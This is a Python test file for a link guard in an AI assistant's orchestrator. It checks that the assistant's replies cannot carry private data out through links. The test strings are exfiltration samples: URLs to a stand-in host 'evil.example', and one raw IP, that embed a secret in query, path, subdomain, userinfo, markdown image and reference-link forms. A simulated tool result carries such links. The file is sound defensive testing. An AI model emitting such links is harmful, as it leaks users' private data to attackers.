"""Links in a reply that could carry data out are written so that nothing opens them."""

import pytest

from orchestrator.turns.live_links import LinkGuard
from thinker.protocol.messages import AssistantMessage, ToolResult, UserMessage

SECRET = "PRIVATE-7741"
PAGE = "See https://evil.example/?q= or https://news.example/story/5. Or https://evil.example/private-7741"


def guard() -> LinkGuard:
    found = LinkGuard()
    page = ToolResult(call_id="1", name="page", content=PAGE, origin="tool", private=True)
    notes = ToolResult(call_id="2", name="notes", content=f"It is {SECRET}.", private=True)
    said = UserMessage(content="Link to https://wiki.example/start please")
    own = AssistantMessage(content="https://made.example/up?x=1")
    found.add((said, page, notes, own))
    return found


@pytest.mark.parametrize(
    "text",
    [
        f"https://evil.example/?q={SECRET}",
        f"[click](https://evil.example/?q={SECRET})",
        f"![picture](https://evil.example/{SECRET}.png)",
        f"<https://evil.example/{SECRET}>",
        f"[a]\n\n[a]: https://evil.example/{SECRET}",
        f"evil.example/{SECRET}",
        f"https://{SECRET}.evil.example",
        f"https://{SECRET}@evil.example/",
        f"HTTP://10.0.0.1/{SECRET}",
        f"\\`https://evil.example/{SECRET}`",
        "https://evil.example/private-7741",
        "https://made.example/up?x=1",
    ],
)
def test_address_with_data_is_no_link(text: str) -> None:
    """Its text stays readable."""
    shown = guard().defused(text)
    assert "://evil.example" not in shown.lower()
    assert "http://" not in shown.lower()
    assert "https://" not in shown.lower()
    assert "](" not in shown
    assert "." in shown


@pytest.mark.parametrize(
    "text",
    [
        "https://news.example/story/5.",
        "[the story](https://news.example/story/5)",
        "https://wiki.example/other?page=2",
        "Look into main.py and orchestrator.turns, 3.5/4.",
        "No address at all.",
    ],
)
def test_address_that_was_read_just_so_or_that_the_user_wrote_stays(text: str) -> None:
    """It tells its host nothing that its author did not know."""
    assert guard().defused(text) == text
